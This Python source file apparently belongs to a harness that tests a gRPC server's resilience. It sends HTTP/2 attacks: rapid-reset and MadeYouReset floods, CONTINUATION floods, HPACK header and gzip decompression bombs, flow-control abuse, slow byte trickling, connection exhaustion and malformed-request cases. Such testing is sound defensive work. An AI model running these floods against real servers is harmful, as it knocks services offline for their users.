"""The attacks: one function each, which attacks the server through `connect` and says how the server ended it.

`connect(**options)` makes an Attacker; it is closed for the function. The letters are those of README.md.
"""

import gzip
import select
import time

import frames
from attacker import STILL_OPEN

MIB = 1024 * 1024
ECHO = frames.request_block()
SLOW = frames.request_block(b"/attack.Victim/Slow")
UNIQUE = frames.request_block(b"/attack.Victim/Unique")
WHO = frames.request_block(b"/attack.Victim/Who")
LARGE = frames.request_block(b"/attack.Victim/Large")
HOLD = frames.request_block(b"/attack.Streams/Hold")
DOWNLOAD = frames.request_block(b"/attack.Streams/Download")


def flooded(connection, pieces, seconds=5.0):
    """Floods, and tells the ending."""
    connection.flood(pieces, seconds)
    connection.settle()
    resets = ", RST_STREAM ".join(["", *sorted(frames.code_name(code) for code in connection.resets)])
    return connection.ending() + (resets if connection.ending() == STILL_OPEN else "")


def answered(connection, pieces, count, seconds=5.0):
    """Sends calls, and tells the ending and how many of them were answered."""
    connection.flood(pieces, seconds, done=lambda: connection.ended_streams + connection.refused() >= count)
    connection.settle()
    return f"{connection.ending()}, {connection.ended_streams} of {count} answered"


def odd(count):
    return range(1, 2 * count, 2)


def in_batches(pieces, size=50):
    """Joins pieces, so that the server finds many in one read."""
    batch = []
    for piece in pieces:
        batch.append(piece)
        if len(batch) == size:
            yield b"".join(batch)
            batch = []
    yield b"".join(batch)


# --- A: streams that cost more than they seem to ----------------------------------------------------------------------


def reset_of_whole_requests(connect):
    pieces = (frames.headers(i, SLOW) + frames.data(i, frames.message(b"x"), True) + frames.rst_stream(i)
              for i in odd(20_000))
    return flooded(connect(), in_batches(pieces))


def reset_of_headers(connect):
    return flooded(connect(), in_batches(frames.headers(i, ECHO, True) + frames.rst_stream(i) for i in odd(20_000)))


def reset_of_open_requests(connect):
    return flooded(connect(), in_batches(frames.headers(i, ECHO) + frames.rst_stream(i) for i in odd(20_000)))


def made_to_reset(last):
    """The variants of MadeYouReset: each request is followed by what makes the server reset it."""

    def attack(connect):
        pieces = (frames.headers(i, SLOW) + frames.data(i, frames.message(b"x"), True) + last(i) for i in odd(2_000))
        return flooded(connect(), in_batches(pieces))

    return attack


def malformed_requests(connect):
    block = frames.request_block(b"/attack.Victim/Echo", frames.field(b"Upper", b"case"))
    return flooded(connect(reads=False), in_batches(frames.headers(i, block, True) for i in odd(5_000)))


def answers_larger_than_the_client_takes(connect):
    count = 2_000
    connection = connect(settings=((frames.MAX_HEADER_LIST_SIZE, 16),))
    pieces = in_batches(frames.headers(i, ECHO) + frames.data(i, frames.message(b"x"), True) +
                        frames.window_update(0, 6) for i in odd(count))
    return answered(connection, pieces, count)


def pipelined_requests(count):
    return lambda connect: send_pipelined(connect(), count)


def send_pipelined(connection, count):
    connection.send(frames.window_update(0, MIB))
    return answered(connection, in_batches(pipelined(count), 1_000), count, 20)


def pipelined(count):
    """Empty requests. The first puts its fields into the table, the others are indices: nine bytes each."""
    first = (b"\x83\x86" + b"\x44" + frames.string(b"/attack.Victim/Echo") + b"\x41" + frames.string(b"127.0.0.1") +
             frames.field(b"te", b"trailers", True) + b"\x5f" + frames.string(b"application/grpc"))
    return (frames.headers(i, first if i == 1 else b"\x83\x86\xc1\xc0\xbf\xbe") +
            frames.data(i, frames.message(b""), True) for i in odd(count))


def more_streams_than_allowed(connect):
    connection = connect(acknowledges=False)
    connection.flood(in_batches(frames.headers(i, ECHO) for i in odd(5 * 1024)), 5)
    connection.settle(15)
    return connection.ending()


# --- requests that are wrong, each on a stream of one connection, with a good one behind them -------------------------


def outcomes(connection, requests):
    """Sends (block, message) each on a stream of its own; tells what became of each, as "grpc 12" or "reset CANCEL"."""
    connection.notes_outcomes = True
    streams = list(odd(len(requests)))
    pieces = [frames.headers(stream, block) + frames.data(stream, body, True)
              for stream, (block, body) in zip(streams, requests)]
    connection.flood(pieces, 5, done=lambda: set(streams) <= connection.outcomes.keys())
    connection.settle()
    return ["{} {}".format(*connection.outcomes.get(stream, ("no", "answer"))) for stream in streams]


def all_are_answered_so(cases):
    """`cases`: name, (block, message), and what may become of it. The connection has to survive them all."""

    def attack(connect):
        connection = connect()
        good = ("a good call behind them", (ECHO, frames.message(b"x")), ("grpc 0",))
        all_cases = [*cases, good]
        seen = outcomes(connection, [request for _, request, _ in all_cases])
        wrong = [f"{name}: {outcome}" for (name, _, allowed), outcome in zip(all_cases, seen) if outcome not in allowed]
        return (f"{connection.ending()}, {len(all_cases) - len(wrong)} of {len(all_cases)} as they should be"
                + "".join(f"; {one}" for one in wrong[:3]))

    return attack


def good_call_with(*fields):
    return frames.request_block(b"/attack.Victim/Echo", *fields), frames.message(b"x")


def call_of(path):
    return frames.request_block(path), frames.message(b"x")


MALFORMED = ("reset PROTOCOL_ERROR",)
NOT_FOUND = ("grpc 12", *MALFORMED)
METADATA = all_are_answered_so([
    ("upper case", good_call_with(frames.field(b"A", b"x")), MALFORMED),
    ("a space in the name", good_call_with(frames.field(b"a b", b"x")), MALFORMED),
    ("a pseudo-header field after others", good_call_with(frames.field(b":x", b"y")), MALFORMED),
    ("NUL", good_call_with(frames.field(b"x", b"a\x00b")), MALFORMED),
    ("CR", good_call_with(frames.field(b"x", b"a\rb")), MALFORMED),
    ("LF", good_call_with(frames.field(b"x", b"a\nb")), MALFORMED),
    ("0x80", good_call_with(frames.field(b"x", b"a\x80b")), ("grpc 0", "grpc 13", *MALFORMED)),
    ("reserved", good_call_with(frames.field(b"grpc-foo", b"x")), ("grpc 0",)),
    ("no base64", good_call_with(frames.field(b"x-bin", b"%%%")), ("grpc 13",)),
    ("base64 unpadded", good_call_with(frames.field(b"x-bin", b"YQ")), ("grpc 0",)),
    ("base64 padded", good_call_with(frames.field(b"x-bin", b"YQ==")), ("grpc 0",)),
    ("base64 joined", good_call_with(frames.field(b"x-bin", b"YQ,Yg")), ("grpc 0",)),
])
PATHS = all_are_answered_so([(path[:30].decode(), call_of(path), NOT_FOUND) for path in (
    b"attack.Victim/Echo", b"//attack.Victim/Echo", b"/attack.Victim/Echo/", b"/attack.Victim//Echo",
    b"/attack%2eVictim/Echo", b"/attack.Victim%2fEcho", b"/attack.Victim/Echo?x", b"/attack.Victim/Echo#",
    b"/attack.Victim/../attack.Victim/Echo", b"/./attack.Victim/Echo", b"/attack.Victim/Echo ", b"*", b"", b"/", b"//",
    b"/attack.Victim", b"/" + b"x" * 7_000)])
AUTHORITY = b"\x01" + frames.string(b"127.0.0.1")
IDENTITIES = all_are_answered_so([
    ("two :authority", good_call_with(AUTHORITY), MALFORMED),
    ("host that differs", good_call_with(frames.field(b"host", b"elsewhere")), MALFORMED),
    ("two hosts", good_call_with(frames.field(b"host", b"127.0.0.1"), frames.field(b"host", b"127.0.0.1")), MALFORMED),
    ("a user in the host", good_call_with(frames.field(b"host", b"user@127.0.0.1")), MALFORMED),
    ("connection", good_call_with(frames.field(b"connection", b"x")), MALFORMED),
    ("te: gzip", good_call_with(frames.field(b"te", b"gzip")), MALFORMED),
    ("upgrade", good_call_with(frames.field(b"upgrade", b"h2c")), MALFORMED),
    ("transfer-encoding", good_call_with(frames.field(b"transfer-encoding", b"chunked")), MALFORMED),
    ("content-length too small", good_call_with(frames.field(b"content-length", b"1")), MALFORMED),
    ("content-length too large", good_call_with(frames.field(b"content-length", b"99")), MALFORMED),
    ("two content-lengths", good_call_with(frames.field(b"content-length", b"6"), frames.field(b"content-length", b"7")),
     MALFORMED),
])
BOMB = gzip.compress(bytes(64 * MIB), 9)[:60_000]


def compressed(encoding, payload=BOMB):
    fields = [frames.field(b"grpc-encoding", encoding)] if encoding else []
    body = b"\x01" + len(payload).to_bytes(4, "big") + payload
    return frames.request_block(b"/attack.Victim/Echo", *fields), body[:16_000]


COMPRESSED = all_are_answered_so([
    ("compressed, and no encoding named", compressed(b""), ("grpc 13",)),
    ("a bomb by gzip", compressed(b"gzip"), ("grpc 12",)),
    ("a bomb by deflate", compressed(b"deflate"), ("grpc 12",)),
    ("zstd", compressed(b"zstd"), ("grpc 12",)),
    ("an encoding that nobody knows", compressed(b"nonsense"), ("grpc 12",)),
    ("identity, and compressed", compressed(b"identity"), ("grpc 13",)),
])


def upgrade_by_http1(request):
    def attack(connect):
        connection = connect(preface=False)
        connection.send(request)
        connection.settle(2)
        return connection.ending()

    return attack


# --- B: header blocks -------------------------------------------------------------------------------------------------


def endless_header_block(connect):
    fields = b"".join(frames.field(b"x", b"y" * 100) for _ in range(150))

    def pieces():
        yield frames.headers(1, ECHO, end_headers=False)
        for _ in range(1_000):
            yield frames.continuation(1, fields)

    return flooded(connect(), pieces())


def empty_continuations(connect):
    def pieces():
        yield frames.headers(1, ECHO, end_headers=False)
        for _ in range(100):
            yield frames.continuation(1, b"") * 200

    return flooded(connect(), pieces())


def unfinished_header_block(connect):
    connection = connect()
    connection.send(frames.headers(1, ECHO, end_headers=False))
    connection.settle(15)
    return connection.ending()


def header_bomb(entry, references):
    """One field goes into the table and is referred to by one byte at a time, on 20 streams, with closed windows."""

    def block(stream):
        return ECHO + (entry if stream == 1 else b"") + b"\xbe" * references

    def request(stream):
        encoded = block(stream)
        parts = [encoded[i:i + 16_000] for i in range(0, len(encoded), 16_000)]
        return frames.headers(stream, parts[0], True, len(parts) == 1) + b"".join(
            frames.continuation(stream, part, part is parts[-1]) for part in parts[1:])

    def attack(connect):
        return flooded(connect(settings=((frames.INITIAL_WINDOW_SIZE, 0),)), map(request, odd(20)), 3)

    return attack


def block_of(encoded):
    def attack(connect):
        return flooded(connect(), [frames.headers(1, encoded, True)], 3)

    return attack


def field_of_a_refused_block(connect):
    """A block that is refused for its size has put a field into the table: the next one refers to it, as it may."""
    connection = connect()
    refused = frames.request_block(b"/attack.Victim/Who", frames.field(b"x-user", b"alice", True),
                                   frames.field(b"x", b"y" * 9_000))
    outcomes(connection, [(refused, frames.message(b"x")), (WHO + b"\xbe", frames.message(b"x"))])
    told = connection.payload[3][5:].decode("utf-8", "replace")
    return f"{connection.ending()}, the user is {told}" if connection.ending() == STILL_OPEN else connection.ending()


def header_list_above_the_soft_limit(connect):
    connection = connect()
    block = frames.request_block(b"/attack.Victim/Echo", frames.field(b"x", b"y" * 9_000))
    pieces = [frames.headers(1, block, True), frames.headers(3, ECHO) + frames.data(3, frames.message(b"x"), True)]
    return answered(connection, pieces, 2, 3)


def largest_encoder_table(connect):
    connection = connect(settings=((frames.HEADER_TABLE_SIZE, 2**32 - 1),))
    count = 10_000
    pieces = in_batches(frames.headers(i, UNIQUE) + frames.data(i, frames.message(b"x"), True) +
                        frames.window_update(0, 6) for i in odd(count))
    return answered(connection, pieces, count)


# --- C: frames that carry nothing -------------------------------------------------------------------------------------


def frames_while_reading(one, count):
    def attack(connect):
        return flooded(connect(), (one * 1_000 for _ in range(count // 1_000)))

    return attack


def frames_while_not_reading(one, count):
    def attack(connect):
        connection = connect(reads=False)
        connection.flood((one * 1_000 for _ in range(count // 1_000)), 15, done=lambda: False)
        connection.settle()
        return connection.ending()

    return attack


def pings_at_leisure(connect):
    connection = connect()
    for _ in range(6):
        connection.send(frames.ping())
        connection.settle(1)
        if connection.over or connection.goaway:
            break
    return connection.ending()


def large_settings(connect):
    return flooded(connect(), [frames.settings(*((0x99, 1),) * 2_730)] * 50)


def toggled_windows(connect):
    connection = connect()
    toggle = frames.settings((frames.INITIAL_WINDOW_SIZE, 0)) + frames.settings((frames.INITIAL_WINDOW_SIZE, 2**31 - 1))

    def pieces():
        yield from in_batches(frames.headers(i, ECHO) for i in odd(1_000))
        for _ in range(100):
            yield toggle * 100

    return flooded(connection, pieces())


def churn_between_priorities(connect):
    """Streams come and go between the frames: a budget that grows with their number would never be used up."""
    pieces = (frames.headers(i, ECHO) + frames.data(i, frames.message(b"x"), True) + frames.window_update(0, 6) +
              frames.priority(i + 2) * 300 for i in odd(5_000))
    return flooded(connect(), in_batches(pieces, 5))


def window_updates_of_a_stream(connect):
    def pieces():
        yield frames.headers(1, ECHO)
        for _ in range(500):
            yield frames.window_update(1, 1) * 1_000

    return flooded(connect(), pieces())


# --- D: data and windows ----------------------------------------------------------------------------------------------


def whole_calls(streams, size):
    """Calls that upload `size` bytes each, to have them sent back; upload is one stream after the other."""
    body = frames.message(b"x" * size)
    for stream in streams:
        yield frames.headers(stream, ECHO)
        for begin in range(0, len(body), 16_000):
            part = body[begin:begin + 16_000]
            yield frames.data(stream, part, begin + len(part) == len(body))


def one_byte_windows(connect):
    connection = connect(settings=((frames.INITIAL_WINDOW_SIZE, 1),))
    connection.flood(whole_calls(odd(10), 60_000), 5)
    drip = b"".join(frames.window_update(i, 1) for i in odd(10))
    connection.flood((drip for _ in range(500)), 5)
    connection.settle()
    return f"{connection.ending()}, {connection.seen[frames.DATA]} DATA frames for 5010 bytes"


def downloads(streams, messages):
    return b"".join(frames.headers(i, DOWNLOAD) + frames.data(i, frames.message(b"%d" % messages), True) for i in streams)


def dribbled_downloads(connect):
    """100 downloads of 1 MiB by windows of one byte: few frames may come of it, whatever the windows allow."""
    streams = odd(100)
    connection = connect(settings=((frames.INITIAL_WINDOW_SIZE, 1),))
    begun = time.monotonic()
    connection.send(downloads(streams, 16))
    drip = b"".join(frames.window_update(i, 1) for i in streams)
    rounds = 300
    for _ in range(rounds):
        connection.flood([drip], 0.01)
        connection.wait(0.01)
    connection.settle()
    # One for each KiB, and, as a stream's rest must not wait for ever, one for each stream in 100 ms.
    allowed = len(streams) * ((rounds + 1) / 1024 + 10 * (time.monotonic() - begun) + 1)
    seen = connection.seen[frames.DATA]
    return f"{connection.ending()}, " + ("held back" if 0 < seen <= allowed else f"{seen} DATA frames")


def downloads_never_read(connect):
    connection = connect(reads=False, settings=((frames.INITIAL_WINDOW_SIZE, frames.LARGEST_WINDOW),))
    connection.send(frames.window_update(0, frames.LARGEST_WINDOW - 65_535) + downloads(odd(100), 160))
    connection.flood((), 15, done=lambda: False)
    connection.settle()
    return connection.ending()


def answers_never_taken(connect):
    """Windows that pin memory: ten calls whose answers may never leave, with a WINDOW_UPDATE by one now and then."""
    connection = connect(settings=((frames.INITIAL_WINDOW_SIZE, 0),))
    connection.flood(whole_calls(odd(10), 60_000), 5)
    deadline = time.monotonic() + 75
    while time.monotonic() < deadline and not connection.over and connection.resets.total() < 10:
        connection.send(b"".join(frames.window_update(i, 1) for i in odd(10)))
        connection.flood((), 2, done=lambda: False)
    return f"{connection.ending()}, {connection.resets.total()} of 10 calls reset"


def large_answers_never_taken(connect):
    """200 calls of a few bytes, each of whose answers is a megabyte that may not leave."""
    connection = connect(settings=((frames.INITIAL_WINDOW_SIZE, 0),))
    calls = (frames.headers(i, LARGE) + frames.data(i, frames.message(b"x"), True) for i in odd(200))
    connection.flood(calls, 5, done=lambda: False)
    connection.settle()
    return connection.ending()


def answers_never_read(connect):
    """Windows wide open and a socket that is never read: all that is answered waits in the server."""
    connection = connect(reads=False, settings=((frames.INITIAL_WINDOW_SIZE, frames.LARGEST_WINDOW),))
    connection.send(frames.window_update(0, frames.LARGEST_WINDOW - 65_535))
    connection.flood(whole_calls(odd(500), 60_000), 15, done=lambda: False)
    connection.settle()
    return connection.ending()


def empty_data(connect):
    def pieces():
        yield frames.headers(1, ECHO)
        for _ in range(100):
            yield frames.data(1, b"") * 200

    return flooded(connect(), pieces())


def data_of_one_byte(connect):
    """Ten unfinished messages in frames of one byte each, as far as the stream's window goes."""

    def pieces():
        for stream in odd(10):
            yield frames.headers(stream, ECHO) + frames.data(stream, b"\x00" + (60_000).to_bytes(4, "big"))
            for _ in range(50):
                yield frames.data(stream, b"x") * 1_000

    return flooded(connect(), pieces())


def unread_data_of_one_byte(connect):
    """The same on 50 streams whose handlers never read."""

    def pieces():
        for stream in odd(50):
            yield frames.headers(stream, HOLD)
            for _ in range(20):
                yield frames.data(stream, b"x") * 1_000

    return flooded(connect(), pieces(), 20)


def data_beyond_the_window(connect):
    part = frames.data(1, bytes(16_384))
    return flooded(connect(), [frames.headers(1, HOLD) + part * 4])


def data_beyond_the_connections_window(connect):
    """On streams that nobody reads, each within its own window, which are more than a connection may leave unread."""
    part = bytes(16_000)

    def pieces():
        for stream in odd(300):
            yield frames.headers(stream, HOLD) + frames.data(stream, part) * 4

    return flooded(connect(), pieces())


def message_of_64_megabytes(connect):
    """Is sent in full, whatever the server says to it."""
    return flooded(connect(), whole_calls([1], 64 * MIB), 5)


def window_overflow(connect):
    return flooded(connect(), [frames.window_update(0, frames.LARGEST_WINDOW)])


def prefaces_byte_by_byte(connect):
    """A thousand connections that send their preface, one byte a second."""
    connections = [connect(preface=False) for _ in range(1_000)]
    told = set()
    for byte in frames.CLIENT_PREFACE[:16]:
        for connection in connections:
            # First, as what is sent to a closed connection makes the system forget what it has for us.
            connection.receive()
            if connection.goaway == ("SETTINGS_TIMEOUT", "handshake_timeout"):
                told.add(connection)
            if not connection.goaway:
                connection.send(bytes([byte]))
        if len(told) == len(connections):
            break
        # A connection's own ways of waiting end early once it has been told.
        select.select([], [], [], 1)
    return f"{len(told)} of 1000 told"


def messages_byte_by_byte(connect):
    """A thousand connections whose messages come at one byte in two seconds."""
    connections = [connect() for _ in range(1_000)]
    for connection in connections:
        connection.notes_outcomes = True
        connection.send(frames.headers(1, ECHO))
    ended = set()
    for byte in frames.message(b"x" * 60_000)[:45]:
        for connection in connections:
            if connection not in ended:
                connection.send(frames.data(1, bytes([byte])))
                connection.receive()
            if connection.outcomes:
                ended.add(connection)
        if len(ended) == len(connections):
            break
        connections[0].flood((), 2, done=lambda: False)
    cancelled = sum(connection.outcomes.get(1) == ("grpc", 1) for connection in connections)
    return f"{cancelled} of 1000 calls ended with CANCELLED"


def trickle(script, seconds):
    """Sends one byte a second."""

    def attack(connect):
        connection = connect(preface=not script.startswith(frames.CLIENT_PREFACE))
        deadline = time.monotonic() + seconds
        for byte in script:
            connection.send(bytes([byte]))
            connection.settle(1)
            if connection.over or connection.goaway or time.monotonic() > deadline:
                break
        return connection.ending()

    return attack


def message_byte_by_byte(connect):
    """A call whose message hardly comes."""
    connection = connect()
    connection.notes_outcomes = True
    connection.send(frames.headers(1, ECHO))
    for byte in frames.message(b"x" * 60_000)[:45]:
        connection.send(frames.data(1, bytes([byte])))
        connection.flood((), 2, done=lambda: False)
        if connection.outcomes or connection.over:
            break
    return f"{connection.ending()}, " + "{} {}".format(*connection.outcomes.get(1, ("not", "ended")))


# --- E, G: messages, connections, the end -----------------------------------------------------------------------------


def message_of_four_gigabytes(connect):
    connection = connect()
    pieces = [frames.headers(1, ECHO) + frames.data(1, b"\x00\xff\xff\xff\xffx"),
              frames.headers(3, ECHO) + frames.data(3, frames.message(b"x"), True)]
    return answered(connection, pieces, 2, 3)


def silent_connections(connect):
    """Connections that never say anything."""
    connections = [connect(preface=False) for _ in range(1_000)]
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline and not all(connection.over for connection in connections):
        for connection in connections:
            connection.receive()
        connections[0].settle(0.2)
    return f"{sum(connection.over for connection in connections)} of 1000 closed"


def connections_inside_of_headers(connect):
    connections = [connect(preface=False) for _ in range(1_000)]
    for connection in connections:
        connection.send(frames.CLIENT_PREFACE + frames.settings() + frames.frame(frames.SETTINGS, frames.ACK, 0) +
                        frames.headers(1, ECHO, end_headers=False))
    deadline = time.monotonic() + 12
    while time.monotonic() < deadline and not all(connection.goaway for connection in connections):
        for connection in connections:
            connection.receive()
        connections[0].settle(0.2)
    told = sum(connection.goaway == ("ENHANCE_YOUR_CALM", "header_block_timeout") for connection in connections)
    return f"{told} of 1000 told"


def idle_connections(connect):
    connections = [connect() for _ in range(1_000)]
    for connection in connections:
        connection.receive()
    return f"{sum(not connection.over for connection in connections)} of 1000 open"


def more_connections_than_descriptors(connect):
    connections = []
    for _ in range(200):
        connections.append(connect(preface=False))
        connections[-1].settle(0.002)
    for connection in connections:
        connection.close()
    return "recovered" if is_served_soon(connect) else "did not recover within 1 s"


def is_served_soon(connect):
    deadline = time.monotonic() + 1
    while time.monotonic() < deadline:
        connection = connect()
        connection.flood([frames.headers(1, ECHO) + frames.data(1, frames.message(b"x"), True)], 1,
                         done=lambda: connection.ended_streams == 1)
        if connection.ended_streams:
            return True
    return False


def frames_after_the_end(connect):
    junk = b"".join(frames.frame(kind, 0xff, stream, b"\x01junk") for kind in range(11) for stream in range(4))
    connection = connect()
    connection.send(frames.window_update(0, 0) + junk * 100)
    connection.settle()
    return connection.ending()


def broken_frame_of_each_type(connect):
    """After the client's own GOAWAY, a frame of each type with a payload that is none, on stream 1 and on stream 0."""
    ended = 0
    for kind in range(10):
        connection = connect()
        goaway = frames.frame(frames.GOAWAY, 0, 0, bytes(8))
        connection.send(frames.headers(1, ECHO) + goaway + b"".join(
            frames.frame(kind, flags, stream, b"\xff" * 7) for flags in (0, 0xff) for stream in (1, 0)))
        connection.settle(1)
        ended += connection.over or connection.goaway is not None
    return f"{ended} of 10 ended"
